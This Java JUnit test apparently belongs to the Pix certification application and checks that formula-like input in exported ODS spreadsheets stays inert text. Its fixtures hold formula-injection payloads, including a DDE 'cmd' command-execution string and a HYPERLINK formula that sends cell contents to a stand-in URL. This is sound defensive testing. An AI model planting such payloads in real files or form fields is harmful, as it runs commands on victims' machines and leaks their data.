package fr.pix.certif.attacks;

import static org.assertj.core.api.Assertions.assertThat;

import fr.pix.certif.CertifTest;
import fr.pix.certif.access.SignedInFixture;
import fr.pix.certif.platform.web.Browser;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.stream.IntStream;
import java.util.zip.ZipInputStream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.web.servlet.mvc.method.RequestMappingInfoHandlerMapping;
import org.w3c.dom.Element;

/**
 * What begins like a formula stays a text in every spreadsheet that is handed out. The files are those of the routes: a new
 * one is read here too. None of them is a CSV, where a text and a formula look the same.
 */
@CertifTest
class FormulaInjectionTest {

    private static final List<String> HEADINGS = List.of(
            "Nom de naissance",
            "Prénom",
            "Date de naissance",
            "Sexe",
            "Pays",
            "Nom de la commune",
            "Tarification part Pix");

    private static final List<String> FORMULAS_OF_A_LINE =
            List.of("=1+1", "@SUM(1)", "-2+3", "M", "=A1", "+1", "=TODAY()");

    private static final List<String> TYPED = List.of(
            "=HYPERLINK(\"http://exemple.net/?\"&A1;\"ouvrir\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1;1)",
            "\t=1+1",
            "\r=1+1",
            "of:=1+1");

    private static final String TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0";
    private static final String OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0";

    @LocalServerPort
    private int port;

    @Autowired
    private JdbcClient sql;

    @Autowired
    private List<RequestMappingInfoHandlerMapping> mappings;

    private Browser browser;
    private String session;
    private String list;

    @BeforeEach
    void typeFormulas() {
        var people = new SignedInFixture(sql);
        browser = new Browser(port).with(people.member(people.centre("=1+1")).cookie());
        var first = TYPED.getFirst();
        browser.get("/sessions/creation");
        session = browser.submit(
                        "/sessions/creation",
                        "formKey",
                        UUID.randomUUID().toString(),
                        "site",
                        TYPED.get(1),
                        "room",
                        first,
                        "date",
                        "19/04/2049",
                        "time",
                        "13:30",
                        "invigilators",
                        TYPED.get(3),
                        "observations",
                        TYPED.get(2))
                .leadsTo()
                .replaceAll("\\D+", "");
        var path = "/sessions/" + session + "/candidats/ajout";
        for (var formula : TYPED) {
            var number = TYPED.indexOf(formula);
            browser.get(path);
            assertThat(browser.submit(
                                    path,
                                    "formKey",
                                    UUID.randomUUID().toString(),
                                    "birth_name",
                                    formula,
                                    "first_name",
                                    formula + number,
                                    "sex",
                                    "M",
                                    "birth_date",
                                    "14/03/2007",
                                    "birth_country",
                                    "Irlande",
                                    "birth_town",
                                    formula,
                                    "external_id",
                                    formula,
                                    "billing",
                                    "PREPAID",
                                    "prepayment_code",
                                    formula)
                            .leadsTo())
                    .as(formula)
                    .isNotEmpty();
        }
        var imported = "/sessions/" + session + "/candidats/import";
        browser.get(imported);
        list = browser.submit(
                        imported, "pasted", String.join("\t", HEADINGS) + "\n" + String.join("\t", FORMULAS_OF_A_LINE))
                .leadsTo()
                .replaceAll(".*liste=", "");
        assertThat(list).isNotEmpty();
    }

    @Test
    void what_begins_like_a_formula_is_a_text_in_every_file() throws Exception {
        var files = Route.all(mappings).stream()
                .filter(route -> route.pattern().matches(".*\\.(ods|zip)"))
                .toList();
        assertThat(files).hasSizeGreaterThanOrEqualTo(5);
        for (var file : files) {
            var path = file.pattern().replace("{id}", session) + "?session=" + session + "&liste=" + list;
            var sheets = sheets(browser.download(path));
            assertThat(sheets).as(path).isNotEmpty();
            for (var sheet : sheets) {
                var formulas = cells(sheet).stream()
                        .filter(cell -> cell.getTextContent().strip().matches("(?s)(of:)?[=+@-][^ ].*"))
                        .toList();
                assertThat(formulas).as(path).isNotEmpty();
                assertThat(formulas)
                        .allSatisfy(cell -> assertThat(cell.getAttributeNS(OFFICE, "value-type"))
                                .as(cell.getTextContent())
                                .isEqualTo("string"));
                assertThat(cells(sheet)).noneMatch(cell -> cell.hasAttributeNS(TABLE, "formula"));
            }
        }
    }

    @Test
    void no_file_is_a_csv() {
        assertThat(Route.all(mappings)).noneMatch(route -> route.pattern().endsWith(".csv"));
    }

    /** The content of a spreadsheet, or of all that are packed in a zip. */
    private static List<byte[]> sheets(byte[] file) throws IOException {
        var sheets = new ArrayList<byte[]>();
        try (var zip = new ZipInputStream(new ByteArrayInputStream(file))) {
            for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                if (entry.getName().equals("content.xml")) {
                    sheets.add(zip.readAllBytes());
                } else if (entry.getName().endsWith(".ods")) {
                    sheets.addAll(sheets(zip.readAllBytes()));
                }
            }
        }
        return sheets;
    }

    private static List<Element> cells(byte[] content) throws Exception {
        var factory = DocumentBuilderFactory.newInstance();
        factory.setNamespaceAware(true);
        var cells = factory.newDocumentBuilder()
                .parse(new ByteArrayInputStream(content))
                .getElementsByTagNameNS(TABLE, "table-cell");
        return IntStream.range(0, cells.getLength())
                .mapToObj(number -> (Element) cells.item(number))
                .toList();
    }
}
